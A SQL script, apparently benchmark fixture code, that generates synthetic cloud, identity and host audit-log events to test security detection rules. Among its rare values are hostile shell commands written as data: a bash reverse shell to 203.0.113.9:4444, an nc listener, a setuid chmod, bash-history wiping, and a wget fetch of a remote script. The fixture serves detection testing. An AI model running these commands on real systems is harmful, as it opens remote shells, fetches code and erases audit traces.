-- Events for the benchmarks in bench/run.sh: a pool of @POOL@ distinct events per log type of
-- rules/, in tables `pool_<table>` whose columns are named and typed as `ruleqc compile`
-- expects (top-level strings VARCHAR, nested objects and arrays JSON, numbers and booleans as
-- such). bench/run.sh repeats a pool up to EVENTS rows for the query benchmark, and writes
-- pools to JSON Lines for `ruleqc run`. The values the rules look for are rare (a few per
-- mille), so most events match no rule, as in production logs.
SET preserve_insertion_order = true;
CREATE OR REPLACE TEMP MACRO rnd(i, salt, n) AS (hash(i * 7919 + salt) % n)::BIGINT;
CREATE OR REPLACE TEMP MACRO pick(xs, i, salt) AS xs[1 + rnd(i, salt, len(xs))];
-- a common value, or a rare one `permille` times in a thousand
CREATE OR REPLACE TEMP MACRO skew(common, rare, i, salt, permille) AS
  CASE WHEN rnd(i, salt + 100, 1000) < permille THEN pick(rare, i, salt) ELSE pick(common, i, salt) END;
CREATE OR REPLACE TEMP MACRO ip(i, salt) AS
  format('{}.{}.{}.{}', rnd(i, salt, 223) + 1, rnd(i, salt + 1, 256), rnd(i, salt + 2, 256), rnd(i, salt + 3, 254) + 1);
CREATE OR REPLACE TEMP MACRO ts(i) AS strftime(TIMESTAMP '2024-05-01' + to_seconds(rnd(i, 999, 2592000)), '%Y-%m-%dT%H:%M:%SZ');
CREATE OR REPLACE TEMP MACRO email(i, salt) AS format('{}@{}', pick(['alice','bob','carol','dave','erin','frank','grace','heidi','ivan','judy'], i, salt) || rnd(i, salt + 1, 500), pick(['example.com','example.com','corp.example.com','gmail.com'], i, salt + 2));
CREATE OR REPLACE TEMP MACRO js(s) AS to_json(s)::VARCHAR;

-- AWS.CloudTrail
CREATE TABLE pool_aws_cloudtrail AS
SELECT
  '1.08' AS eventVersion,
  ts(i) AS eventTime,
  skew(['sts.amazonaws.com','s3.amazonaws.com','ec2.amazonaws.com','iam.amazonaws.com','kms.amazonaws.com','lambda.amazonaws.com','logs.amazonaws.com','dynamodb.amazonaws.com','ssm.amazonaws.com'],
       ['signin.amazonaws.com','cloudtrail.amazonaws.com','guardduty.amazonaws.com'], i, 1, 50) AS eventSource,
  skew(['GetObject','PutObject','DescribeInstances','AssumeRole','GetCallerIdentity','ListBuckets','Decrypt','Encrypt','GenerateDataKey','GetParameter','PutLogEvents','GetUser','ListRoles','DescribeSecurityGroups','GetBucketAcl','ListKeys','Invoke','Query'],
       ['CreateAccessKey','AttachUserPolicy','AttachRolePolicy','AttachGroupPolicy','PutBucketAcl','CreateBucket','ConsoleLogin','AuthorizeSecurityGroupIngress','ScheduleKeyDeletion','DisableKey','StopLogging','DeleteTrail','DeleteDetector','UpdateDetector','PutUserPolicy'], i, 2, 30) AS eventName,
  pick(['us-east-1','us-east-1','us-west-2','eu-west-1','ap-southeast-2'], i, 3) AS awsRegion,
  ip(i, 4) AS sourceIPAddress,
  pick(['aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64.ubuntu.22','Boto3/1.34.70 md/Botocore#1.34.70 ua/2.0 os/linux#6.1','console.amazonaws.com','terraform-provider-aws/5.40.0 (+https://registry.terraform.io)','AWS Internal'], i, 8) AS userAgent,
  CASE WHEN rnd(i, 9, 100) < 92 THEN NULL WHEN rnd(i, 9, 100) < 98 THEN 'AccessDenied' ELSE '' END AS errorCode,
  format('{{"type":"{}","principalId":"AIDA{}","arn":"arn:aws:iam::123456789012:{}","accountId":"123456789012","userName":"user{}","sessionContext":{{"attributes":{{"mfaAuthenticated":"{}","creationDate":"{}"}}}}}}',
         skew(['AssumedRole','IAMUser','AWSService'], ['Root'], i, 10, 5), rnd(i, 11, 1000000), 'user/user' || rnd(i, 12, 5000), rnd(i, 12, 5000), pick(['true','false'], i, 13), ts(i))::JSON AS userIdentity,
  CASE rnd(i, 13, 6)
    WHEN 0 THEN format('{{"userName":"user{}"}}', rnd(i, 14, 5000))
    WHEN 1 THEN format('{{"policyArn":"arn:aws:iam::aws:policy/{}","userName":"user{}"}}', skew(['ReadOnlyAccess','AmazonS3ReadOnlyAccess','PowerUserAccess','AmazonEC2FullAccess'], ['AdministratorAccess','IAMFullAccess'], i, 15, 100), rnd(i, 14, 5000))
    WHEN 2 THEN format('{{"bucketName":"bucket-{}","x-amz-acl":["{}"],"Host":"bucket-{}.s3.amazonaws.com"}}', rnd(i, 16, 900), skew(['private','bucket-owner-full-control'], ['public-read','public-read-write','authenticated-read'], i, 17, 50), rnd(i, 16, 900))
    WHEN 3 THEN format('{{"groupId":"sg-{}","ipPermissions":{{"items":[{{"ipProtocol":"tcp","fromPort":{},"toPort":{},"ipRanges":{{"items":[{{"cidrIp":"{}"}}]}},"ipv6Ranges":{{"items":[]}}}}]}}}}', rnd(i, 18, 99999), pick([22, 80, 443, 3389, 5432], i, 19), pick([22, 80, 443, 3389, 5432], i, 19), skew(['10.0.0.0/8','192.168.0.0/16','172.16.0.0/12'], ['0.0.0.0/0'], i, 20, 100))
    WHEN 4 THEN format('{{"keyId":"k-{}","pendingWindowInDays":{},"detectorId":"d{}","enable":{},"name":"trail-{}"}}', rnd(i, 21, 100000), rnd(i, 21, 30) + 7, rnd(i, 22, 100), pick(['true','true','false'], i, 23), rnd(i, 24, 50))
    ELSE NULL END::JSON AS requestParameters,
  CASE rnd(i, 25, 4)
    WHEN 0 THEN format('{{"ConsoleLogin":"{}"}}', pick(['Success','Success','Failure'], i, 26))
    WHEN 1 THEN format('{{"accessKey":{{"userName":"user{}","accessKeyId":"AKIA{}","status":"Active","createDate":"{}"}}}}', rnd(i, 14, 5000), rnd(i, 27, 1000000), ts(i))
    ELSE NULL END::JSON AS responseElements,
  CASE WHEN rnd(i, 28, 3) = 0 THEN format('{{"MFAUsed":"{}","LoginTo":"https://console.aws.amazon.com/","MobileVersion":"No"}}', pick(['Yes','Yes','No'], i, 29)) ELSE NULL END::JSON AS additionalEventData,
  CASE WHEN rnd(i, 30, 4) = 0 THEN format('[{{"type":"{}","ARN":"arn:aws:kms:us-east-1:123456789012:key/{}","accountId":"123456789012"}}]', pick(['AWS::KMS::Key','AWS::S3::Bucket','AWS::IAM::Role','AWS::Lambda::Function'], i, 31), rnd(i, 32, 100000)) ELSE NULL END::JSON AS resources,
  'AwsApiCall' AS eventType,
  format('{}-{}', rnd(i, 33, 1000000000), rnd(i, 34, 1000000000)) AS eventID,
  '123456789012' AS recipientAccountId
FROM range(@POOL@) t(i);

-- Amazon.EKS.Audit
CREATE TABLE pool_amazon_eks_audit AS
SELECT
  'Event' AS kind, 'audit.k8s.io/v1' AS apiVersion, 'Metadata' AS level,
  format('{}-{}', rnd(i, 1, 1000000000), rnd(i, 2, 1000000000)) AS auditID,
  'ResponseComplete' AS stage,
  skew(['/api/v1/namespaces/default/pods','/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-1','/api/v1/nodes','/apis/apps/v1/deployments','/api/v1/namespaces/kube-system/configmaps/aws-auth','/api/v1/namespaces/prod/secrets'],
       ['/healthz','/version','/readyz','/api/v1/namespaces/prod/pods/web-1/exec?command=sh','/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'], i, 3, 40) AS requestURI,
  skew(['get','list','watch','watch','get','update'], ['create','patch','delete'], i, 4, 80) AS verb,
  format('{{"username":"{}","uid":"{}","groups":{}}}',
         skew(['system:serviceaccount:kube-system:coredns','system:node:ip-10-0-1-12.ec2.internal','system:kube-controller-manager','system:serviceaccount:prod:web'], ['alice@example.com','bob@example.com','system:anonymous','kubernetes-admin'], i, 5, 30),
         rnd(i, 6, 100000),
         skew(['["system:authenticated"]','["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]','["system:nodes","system:authenticated"]'], ['["system:masters","system:authenticated"]','["system:unauthenticated"]','["developers","system:authenticated"]'], i, 7, 30))::JSON AS "user",
  format('["{}"]', ip(i, 8))::JSON AS sourceIPs,
  pick(['kubelet/v1.29.0 (linux/amd64) kubernetes/abcdef','kube-probe/1.29','kubectl/v1.29.1 (linux/amd64) kubernetes/abcdef','coredns/1.11.1'], i, 12) AS userAgent,
  format('{{"resource":"{}","namespace":"{}","name":"obj-{}","apiVersion":"v1"{}}}',
         skew(['pods','configmaps','leases','endpoints','nodes','events','deployments'], ['secrets','clusterrolebindings','rolebindings'], i, 13, 40),
         pick(['default','kube-system','prod','staging'], i, 14), rnd(i, 15, 10000),
         CASE WHEN rnd(i, 16, 100) < 3 THEN format(',"subresource":"{}"', pick(['exec','attach','log','status'], i, 17)) ELSE '' END)::JSON AS objectRef,
  format('{{"metadata":{{}},"code":{}}}', skew([200, 200, 201], [403, 404, 409, 500], i, 18, 50))::JSON AS responseStatus,
  CASE rnd(i, 19, 10)
    WHEN 0 THEN format('{{"spec":{{"containers":[{{"name":"app","image":"nginx:1.25","securityContext":{{"privileged":{}}}}}],"hostPID":{},"hostNetwork":false}}}}', skew(['false'], ['true'], i, 20, 30), skew(['false'], ['true'], i, 21, 10))
    WHEN 1 THEN format('{{"roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"{}"}},"subjects":[{{"kind":"User","name":"user{}"}}]}}', skew(['view','edit'], ['cluster-admin'], i, 22, 100), rnd(i, 23, 100))
    ELSE NULL END::JSON AS requestObject,
  format('{{"authorization.k8s.io/decision":"{}","authorization.k8s.io/reason":"RBAC: allowed by RoleBinding rb-{}"}}', skew(['allow'], ['forbid'], i, 24, 20), rnd(i, 25, 20000))::JSON AS annotations,
  ts(i) AS requestReceivedTimestamp
FROM range(@POOL@) t(i);

-- GCP.AuditLog
CREATE TABLE pool_gcp_auditlog AS
SELECT
  format('projects/proj-{}/logs/cloudaudit.googleapis.com%2Factivity', rnd(i, 1, 20)) AS logName,
  pick(['NOTICE','INFO','ERROR'], i, 2) AS severity,
  format('{}', rnd(i, 3, 1000000000)) AS insertId,
  ts(i) AS "timestamp",
  format('{{"type":"{}","labels":{{"project_id":"proj-{}","zone":"us-central1-a"}}}}', pick(['gce_instance','gcs_bucket','project','service_account'], i, 4), rnd(i, 1, 20))::JSON AS resource,
  format('{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"{}","methodName":"{}","resourceName":"projects/proj-{}/resources/r{}","authenticationInfo":{{"principalEmail":"{}"}},"requestMetadata":{{"callerIp":"{}","callerSuppliedUserAgent":"google-cloud-sdk gcloud/470.0.0"}},"status":{}{}{}}}',
         skew(['compute.googleapis.com','storage.googleapis.com','bigquery.googleapis.com'], ['iam.googleapis.com','logging.googleapis.com','cloudresourcemanager.googleapis.com'], i, 5, 100),
         skew(['v1.compute.instances.list','storage.objects.get','storage.objects.list','v1.compute.disks.get','google.cloud.bigquery.v2.JobService.InsertJob','v1.compute.instances.get'],
              ['SetIamPolicy','storage.setIamPermissions','v1.compute.firewalls.insert','v1.compute.firewalls.patch','google.iam.admin.v1.CreateServiceAccountKey','google.logging.v2.ConfigServiceV2.DeleteSink','google.logging.v2.ConfigServiceV2.UpdateSink'], i, 6, 30),
         rnd(i, 1, 20), rnd(i, 7, 100000), email(i, 8), ip(i, 9),
         skew(['{}'], ['{"code":7,"message":"PERMISSION_DENIED"}','{"code":0}'], i, 10, 50),
         CASE WHEN rnd(i, 11, 10) = 0 THEN format(',"serviceData":{{"policyDelta":{{"bindingDeltas":[{{"action":"{}","role":"{}","member":"{}"}}]}}}}',
                pick(['ADD','REMOVE'], i, 12), skew(['roles/viewer','roles/storage.objectViewer'], ['roles/owner','roles/editor'], i, 13, 100),
                skew(['user:alice@example.com','serviceAccount:sa@proj.iam.gserviceaccount.com','group:devs@example.com'], ['allUsers','allAuthenticatedUsers','user:mallory@gmail.com'], i, 14, 100)) ELSE '' END,
         CASE WHEN rnd(i, 15, 10) = 0 THEN format(',"request":{{"direction":"{}","sourceRanges":["{}"],"alloweds":[{{"IPProtocol":"{}","ports":["22"]}}]}}',
                pick(['INGRESS','EGRESS'], i, 16), skew(['10.0.0.0/8','35.235.240.0/20'], ['0.0.0.0/0','::/0'], i, 17, 100), pick(['tcp','tcp','icmp'], i, 18)) ELSE '' END)::JSON AS protoPayload
FROM range(@POOL@) t(i);

-- GitHub.Audit
CREATE TABLE pool_github_audit AS
SELECT
  skew(['git.clone','git.fetch','git.push','repo.download_zip','workflows.completed_workflow_run','pull_request.merge','issues.create','team.add_member','repo.create','ip_allow_list_entry.create'],
       ['protected_branch.destroy','protected_branch.policy_override','ip_allow_list.disable','ip_allow_list_entry.destroy','ip_allow_list.enable','org.update_member','org.add_member','repo.access','repository_secret_scanning.disable','dependabot_alerts.disable','repository_vulnerability_alerts.disable','business_secret_scanning_push_protection.disable'], i, 1, 20) AS "action",
  'dev' || rnd(i, 2, 800) AS actor,
  'acme/repo-' || rnd(i, 3, 300) AS repo,
  pick(['main','release','develop'], i, 4) AS name,
  'acme' AS org,
  'dev' || rnd(i, 5, 800) AS "user",
  pick(['read','write','write','admin'], i, 6) AS permission,
  pick(['private','private','internal','public'], i, 7) AS visibility,
  1714521600000 + rnd(i, 8, 2592000000) AS "@timestamp",
  1714521600000 + rnd(i, 8, 2592000000) AS created_at,
  ip(i, 9) AS actor_ip
FROM range(@POOL@) t(i);

-- Linux.ProcessExecution
CREATE TABLE pool_linux_processexecution AS
SELECT
  ts(i) AS "timestamp",
  pick(['exec','exec','exec','exit','fork'], i, 1) AS event_type,
  format('{{"hostname":"web-{}","os":{{"family":"debian","version":"12"}}}}', rnd(i, 2, 200))::JSON AS host,
  format('{{"name":"{}","id":{}}}', u.name, u.id)::JSON AS "user",
  format('{{"pid":{},"name":"{}","executable":"/usr/bin/{}","args":{},"parent":{{"name":"{}","pid":{}}}}}',
         rnd(i, 4, 4000000), p.name, p.name, p.args,
         skew(['bash','sshd','systemd','cron','containerd-shim'], ['nginx','php-fpm','java'], i, 5, 100), rnd(i, 6, 4000000))::JSON AS process
FROM (
  SELECT i,
    pick([{'name':'deploy','id':1000},{'name':'ubuntu','id':1001},{'name':'root','id':0},{'name':'www-data','id':33},{'name':'postgres','id':114}], i, 3) AS u,
    skew([{'name':'ls','args':'["ls","-la"]'},{'name':'cat','args':'["cat","/etc/hosts"]'},{'name':'grep','args':'["grep","-r","TODO","."]'},{'name':'python3','args':'["python3","app.py"]'},{'name':'node','args':'["node","server.js"]'},{'name':'ps','args':'["ps","aux"]'},{'name':'curl','args':'["curl","-s","https://example.com/health"]'}],
         [{'name':'bash','args':'["bash","-c","bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]'},{'name':'nc','args':'["nc","-lvnp","4444"]'},{'name':'sh','args':'["sh","-c","id"]'},{'name':'chmod','args':'["chmod","u+s","/tmp/x"]'},{'name':'sudo','args':'["sudo","-i"]'},{'name':'rm','args':'["rm","-f","/root/.bash_history"]'},{'name':'ln','args':'["ln","-sf","/dev/null","/root/.bash_history"]'},{'name':'bash','args':'["bash","-c","history -c"]'}],
         i, 7, 30) AS p
  FROM range(@POOL@) t(i));

-- Okta.SystemLog
CREATE TABLE pool_okta_systemlog AS
SELECT
  format('{}', rnd(i, 1, 1000000000)) AS uuid,
  ts(i) AS published,
  skew(['user.session.start','user.authentication.sso','policy.evaluate_sign_on','app.oauth2.token.grant','user.authentication.auth_via_mfa','user.session.end'],
       ['user.account.privilege.grant','user.mfa.factor.deactivate','user.mfa.factor.reset_all','user.session.impersonation.grant','user.session.impersonation.initiate'], i, 2, 20) AS eventType,
  pick(['User login to Okta','User single sign on to app','Evaluation of sign-on policy'], i, 3) AS displayMessage,
  pick(['INFO','INFO','WARN'], i, 4) AS severity,
  format('{{"id":"00u{}","type":"User","alternateId":"{}","displayName":"User {}"}}', rnd(i, 5, 100000), email(i, 6), rnd(i, 5, 100000))::JSON AS actor,
  format('{{"ipAddress":"{}","userAgent":{{"rawUserAgent":"Mozilla/5.0 (Macintosh)","os":"Mac OS X","browser":"CHROME"}},"zone":"null"}}', ip(i, 7))::JSON AS client,
  format('{{"result":"{}","reason":{}}}', skew(['SUCCESS','SUCCESS','ALLOW'], ['FAILURE','DENY'], i, 8, 80), skew(['null'], ['"INVALID_CREDENTIALS"','"VERIFICATION_ERROR"','"LOCKED_OUT"'], i, 9, 100))::JSON AS outcome,
  CASE WHEN rnd(i, 10, 3) = 0 THEN format('[{{"id":"00u{}","type":"{}","alternateId":"{}"}}]', rnd(i, 11, 100000), pick(['User','AppInstance','User'], i, 12), email(i, 13)) ELSE NULL END::JSON AS target,
  format('{{"debugData":{{"requestId":"X{}","requestUri":"/api/v1/authn","threatSuspected":"false"{}}}}}', rnd(i, 19, 1000000000), CASE WHEN rnd(i, 14, 50) = 0 THEN format(',"privilegeGranted":"{}"', pick(['Read-only Administrator','Super administrator','Organization Administrator','Help Desk Administrator'], i, 15)) ELSE '' END)::JSON AS debugContext,
  format('{{"asNumber":{},"asOrg":"{}","isp":"{}","domain":"example.net","isProxy":{}}}', rnd(i, 16, 60000), pick(['comcast','verizon','amazon'], i, 17), pick(['comcast','verizon','amazon'], i, 17), skew(['false'], ['true'], i, 18, 20))::JSON AS securityContext
FROM range(@POOL@) t(i);

-- OnePassword.SignInAttempt
CREATE TABLE pool_onepassword_signinattempt AS
SELECT
  format('{}', rnd(i, 1, 1000000000)) AS uuid,
  format('{}', rnd(i, 2, 1000000000)) AS session_uuid,
  ts(i) AS "timestamp",
  skew(['success'], ['credentials_failed','mfa_failed','firewall_failed'], i, 3, 50) AS category,
  pick(['credentials_ok','mfa_ok','password_secret_bad'], i, 4) AS "type",
  format('{{"uuid":"{}","name":"User {}","email":"{}"}}', rnd(i, 5, 100000), rnd(i, 5, 100000), email(i, 6))::JSON AS target_user,
  format('{{"app_name":"{}","app_version":"81012","platform_name":"macOS","os_name":"MacOSX","ip_address":"{}"}}', pick(['1Password for Mac','1Password Browser Extension','1Password for iOS'], i, 7), ip(i, 8))::JSON AS client,
  format('{{"country":"{}","region":"region{}","city":"city{}","latitude":{},"longitude":{}}}', skew(['US','US','CA','GB','IE'], ['DE','FR','BR','IN'], i, 9, 50), rnd(i, 10, 50), rnd(i, 11, 5000), (rnd(i, 12, 18000) - 9000) / 100, (rnd(i, 13, 36000) - 18000) / 100)::JSON AS location
FROM range(@POOL@) t(i);

-- OnePassword.ItemUsage
CREATE TABLE pool_onepassword_itemusage AS
SELECT
  format('{}', rnd(i, 1, 1000000000)) AS uuid,
  ts(i) AS "timestamp",
  rnd(i, 2, 1000) AS used_version,
  skew(['ITEM' || rnd(i, 3, 5000)], ['RXB5ZQKKLXTKRHN4NOTVXGB5QE','NUTG4JY6FCHPFCOZNQF4WFH4UQ'], i, 4, 5) AS item_uuid,
  'VAULT' || rnd(i, 5, 50) AS vault_uuid,
  pick(['fill','fill','enter-item-edit-mode','reveal','secure-copy','export'], i, 6) AS "action",
  format('{{"uuid":"{}","name":"User {}","email":"{}"}}', rnd(i, 7, 100000), rnd(i, 7, 100000), email(i, 8))::JSON AS "user",
  format('{{"app_name":"{}","app_version":"81012","platform_name":"Chrome","ip_address":"{}"}}', skew(['1Password for Mac','1Password Browser Extension','1Password for Windows','1Password for iOS'], ['1Password CLI','op-connect-sync'], i, 9, 30), ip(i, 10))::JSON AS client
FROM range(@POOL@) t(i);

-- Slack.AuditLogs
CREATE TABLE pool_slack_auditlogs AS
SELECT
  format('{}', rnd(i, 1, 1000000000)) AS id,
  1714521600 + rnd(i, 2, 2592000) AS date_create,
  skew(['user_login','file_downloaded','user_channel_join','channel_created','file_uploaded','user_logout'],
       ['anomaly','app_installed','app_approved','app_scopes_expanded','role_change_to_admin','role_change_to_owner'], i, 3, 20) AS "action",
  format('{{"type":"user","user":{{"id":"U{}","name":"user{}","email":"{}","team":"T1"}}}}', rnd(i, 4, 10000), rnd(i, 4, 10000), email(i, 5))::JSON AS actor,
  CASE rnd(i, 6, 3)
    WHEN 0 THEN format('{{"type":"app","app":{{"id":"A{}","name":"app{}","is_distributed":false,"scopes":["chat:write","{}"]}}}}', rnd(i, 7, 1000), rnd(i, 7, 1000), skew(['channels:read','users:read'], ['admin.users:write','admin'], i, 8, 50))
    WHEN 1 THEN format('{{"type":"user","user":{{"id":"U{}","name":"user{}","email":"{}"}}}}', rnd(i, 9, 10000), rnd(i, 9, 10000), email(i, 10))
    ELSE '{"type":"workspace","workspace":{"id":"T1","name":"acme","domain":"acme"}}' END::JSON AS entity,
  format('{{"ua":"Mozilla/5.0","ip_address":"{}","location":{{"type":"workspace","id":"T1","name":"acme","domain":"acme"}}}}', ip(i, 11))::JSON AS context,
  CASE WHEN rnd(i, 12, 10) = 0 THEN format('{{"id":"D{}","reason":["{}"],"new_scopes":["{}"]}}', rnd(i, 15, 1000000000), pick(['tor','excessive_downloads','unusual_user_agent','asn'], i, 13), pick(['chat:write','admin.conversations:write','files:read'], i, 14)) ELSE NULL END::JSON AS details
FROM range(@POOL@) t(i);

-- Gravitational.TeleportAudit
CREATE TABLE pool_gravitational_teleportaudit AS
SELECT
  event,
  pick(['T4000I','T1000I','T2000I'], i, 2) AS code,
  ts(i) AS "time",
  format('{}', rnd(i, 3, 1000000000)) AS uid,
  'user' || rnd(i, 4, 300) AS "user",
  pick(['root','ubuntu','ec2-user'], i, 5) AS login,
  format('srv-{}', rnd(i, 6, 500)) AS server_id,
  format('sid-{}', rnd(i, 7, 1000000)) AS sid,
  program,
  '/usr/bin/' || program AS path,
  skew([0, 0, 1], [127, 130], i, 9, 50) AS return_code,
  skew([format('["-la","/home/user{}"]', rnd(i, 20, 300)), format('["status","--short","src/{}"]', rnd(i, 21, 5000)), '[]'],
       ['["-l","-p","4444"]', format('["http://203.0.113.{}/x.sh"]', rnd(i, 22, 250))], i, 10, 50)::JSON AS argv,
  'name' || rnd(i, 11, 100) AS name,
  CASE WHEN rnd(i, 12, 4) = 0 THEN skew(['["access"]','["auditor"]'], ['["editor"]','["access","editor"]'], i, 13, 100) ELSE NULL END::JSON AS roles,
  pick(['local','github','saml'], i, 14) AS connector,
  'teleport.example.com' AS cluster_name,
  CASE WHEN rnd(i, 15, 10) = 0 THEN 'invalid credentials' ELSE NULL END AS error,
  pick(['local','local','oidc','saml'], i, 16) AS method,
  rnd(i, 17, 10) > 0 AS success,
  ip(i, 18) || ':' || (rnd(i, 19, 60000) + 1024) AS "addr.remote"
FROM (
  SELECT i,
    skew(['session.start','session.end','session.data','user.login','exec','session.command','session.command'],
         ['user.create','saml.created','oidc.deleted','github.created','github.deleted'], i, 1, 20) AS event,
    skew(['ls','cat','vim','git','ps','top','kubectl'], ['nc','wget'], i, 8, 20) AS program
  FROM range(@POOL@) t(i));

-- Zoom.Operation
CREATE TABLE pool_zoom_operation AS
SELECT
  ts(i) AS "time",
  email(i, 1) AS operator,
  pick(['User','Meeting','Account','Recording','Meeting'], i, 2) AS category_type,
  pick(['Update','Add','Delete','Batch Update','Update'], i, 3) AS "action",
  skew(['Update Meeting Setting: Host video from Off to On', 'Add User ' || email(i, 4), 'Delete Recording ' || rnd(i, 5, 100000), 'Update Account Setting: Cloud recording from On to On'],
       ['Change Role  - ' || email(i, 6) || ': from Member to Admin', 'Update Meeting Setting: Require a passcode when scheduling new meetings from On to Off', 'change role - ' || email(i, 7) || ': from Admin to Owner'], i, 8, 20) AS operation_detail
FROM range(@POOL@) t(i);
